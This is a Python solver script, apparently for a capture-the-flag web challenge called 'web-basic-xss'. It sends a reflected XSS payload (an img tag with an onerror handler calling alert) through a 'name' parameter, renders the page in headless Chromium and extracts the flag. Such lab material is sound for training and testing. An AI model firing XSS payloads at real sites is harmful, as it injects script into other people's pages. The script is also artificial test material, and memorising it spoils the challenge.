#!/usr/bin/env python3
"""Solves web-basic-xss in a real browser: solve.py URL [CONNECT_HOST] prints the flag.

URL is the instance's address, e.g. http://label.localhost:8001. CONNECT_HOST is where to open the socket when the
name in the URL resolves nowhere. Needs chromium on the PATH, or in CHROMIUM.
"""

import os
import re
import shutil
import subprocess
import sys
import tempfile
from html import unescape
from urllib.parse import quote, urlsplit

PAYLOAD = '<img src="x:" onerror="alert(1)">'


def solve(url, connect_host=None):
    page = visit(f"{url.rstrip('/')}/?name={quote(PAYLOAD)}", connect_host)
    shown = re.search(r'id="flag"[^>]*>([^<]+)<', page)
    return unescape(shown.group(1)) if shown else None


def visit(url, connect_host):
    """The page as it is once its scripts have run."""
    browser = os.environ.get("CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
    if not browser:
        raise SystemExit("chromium is missing: apt-get install chromium")
    with tempfile.TemporaryDirectory(prefix="solver-") as profile:
        command = [browser, "--headless=new", "--disable-gpu", "--disable-dev-shm-usage", "--no-proxy-server",
                   f"--user-data-dir={profile}", "--virtual-time-budget=10000", "--dump-dom"]
        if os.geteuid() == 0:
            command.append("--no-sandbox")
        if connect_host:
            command.append(f"--host-resolver-rules=MAP {urlsplit(url).hostname} {connect_host}")
        done = subprocess.run([*command, url], capture_output=True, text=True, timeout=60)
    return done.stdout


if __name__ == "__main__":
    if len(sys.argv) not in (2, 3):
        raise SystemExit("usage: solve.py URL [CONNECT_HOST]")
    found = solve(*sys.argv[1:])
    if not found:
        raise SystemExit("no flag: the payload did not run")
    print(found)
